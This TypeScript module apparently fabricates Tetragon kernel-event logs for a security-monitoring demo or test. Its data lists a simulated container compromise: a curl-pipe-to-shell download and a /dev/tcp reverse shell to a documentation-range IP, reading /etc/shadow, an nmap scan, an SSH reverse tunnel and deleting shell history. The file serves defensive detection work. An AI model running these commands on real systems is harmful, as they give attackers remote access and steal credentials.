import { clusterOf } from './clusters'
import type { Moments } from './moment'
import { hexOf } from './random'
import { podOf } from './seen-pod'
import type { Pending } from './shape'

const precise = (at: Date) => `${at.toISOString().slice(0, 23)}000000Z`

type Act = {
  cluster: string
  path: string
  minutes: number
  parent: string
  line: string
  call?: Record<string, unknown>
}

function tetragonLine(moments: Moments, { cluster, path, minutes, parent, line, call }: Act, at: Date): string {
  const seen = podOf(cluster, path)
  const [binary = '', ...words] = line.split(' ')
  const [parentBinary = '', ...parentWords] = parent.split(' ')
  const id = (text: string) => Buffer.from(`${seen.node}:${hexOf(text).slice(0, 12)}:${minutes}`).toString('base64')
  const pod = {
    namespace: seen.namespace,
    name: seen.pod,
    container: {
      id: `containerd://${seen.container}`,
      name: seen.workload,
      image: {
        id: `${seen.build.repository}@${seen.build.digest}`,
        name: `${seen.build.repository}:${seen.build.tag}`,
      },
      start_time: precise(moments.ago(1)),
      pid: 40 + (minutes % 50),
    },
    pod_labels: { app: seen.workload },
    workload: seen.workload,
    workload_kind: seen.kind,
  }
  const shared = {
    uid: 0,
    cwd: '/app',
    flags: 'execve clone',
    auid: 4294967295,
    pod,
    docker: seen.container.slice(0, 31),
  }
  const inside = {
    process: {
      exec_id: id(line + minutes),
      pid: 4000 + minutes,
      binary,
      arguments: words.join(' '),
      start_time: precise(at),
      parent_exec_id: id(parent),
      ...shared,
    },
    parent: {
      exec_id: id(parent),
      pid: 3000,
      binary: parentBinary,
      arguments: parentWords.join(' '),
      start_time: precise(moments.ago(1)),
      ...shared,
    },
    ...call,
  }
  return JSON.stringify({
    [call ? 'process_kprobe' : 'process_exec']: inside,
    node_name: seen.node,
    cluster_name: seen.cluster.name,
    time: precise(at),
  })
}

const settings = (file: string, action: string) => ({
  function_name: 'security_file_permission',
  args: [{ file_arg: { mount: '', path: file, permission: '-rw-r--r--' } }, { int_arg: 2 }],
  return: { int_arg: 0 },
  action,
  policy_name: 'gate-settings',
  message: 'the settings of the gates were opened for writing',
  tags: ['mitre_persistence', 'T1565'],
  return_action: 'KPROBE_ACTION_POST',
})
const web = { cluster: 'prod-eu-1', path: 'booking/web' }
const gate = { cluster: 'edge-rtm', path: 'yard/gate-api' }
const handheld = { cluster: 'edge-rtm', path: 'yard/handheld-api' }

/** What Tetragon saw at the quay, and of the shell in booking/web that Falco saw as well. */
const acts: readonly Act[] = [
  {
    ...web,
    minutes: 17,
    parent: '/usr/local/bin/node server.js',
    line: '/bin/sh -c "curl -s http://203.0.113.200/i.sh | sh"',
  },
  { ...web, minutes: 15, parent: '/bin/sh i.sh', line: '/bin/bash -c "bash -i >& /dev/tcp/203.0.113.200/4444 0>&1"' },
  { ...web, minutes: 13, parent: '/bin/bash -i', line: '/usr/bin/id' },
  { ...web, minutes: 11, parent: '/bin/bash -i', line: '/bin/cat /etc/shadow' },
  { ...gate, minutes: 190, parent: '/usr/bin/containerd-shim-runc-v2 -id gate', line: '/app/gate --port 8080' },
  {
    ...gate,
    minutes: 184,
    parent: '/app/gate --port 8080',
    line: '/usr/bin/vi /app/gates.yaml',
    call: settings('/app/gates.yaml', 'KPROBE_ACTION_POST'),
  },
  {
    ...gate,
    minutes: 183,
    parent: '/app/gate --port 8080',
    line: '/usr/bin/tee /app/gates.yaml',
    call: settings('/app/gates.yaml', 'KPROBE_ACTION_SIGKILL'),
  },
  { ...handheld, minutes: 95, parent: '/bin/sh', line: '/usr/bin/nmap -sT -p 22,502 10.62.0.0/16' },
  { ...handheld, minutes: 93, parent: '/bin/sh', line: '/usr/bin/ssh -N -R 2222:localhost:22 svc@203.0.113.61' },
  { ...handheld, minutes: 92, parent: '/bin/sh', line: '/bin/rm -f /root/.bash_history' },
  { ...handheld, minutes: 41, parent: '/app/handheld', line: '/bin/ls /app' },
]

/** What Tetragon saw, an event at a time. */
export const tetragonReports = (moments: Moments): Pending[] =>
  acts.map((act): Pending => {
    const at = moments.ago(0, act.minutes)
    const body = () => `${tetragonLine(moments, act, at)}\n`
    return {
      at: new Date(at.getTime() + 700),
      collector: `tetragon-${act.cluster}`,
      format: 'tetragon',
      cluster: clusterOf(act.cluster).uid,
      body,
    }
  })
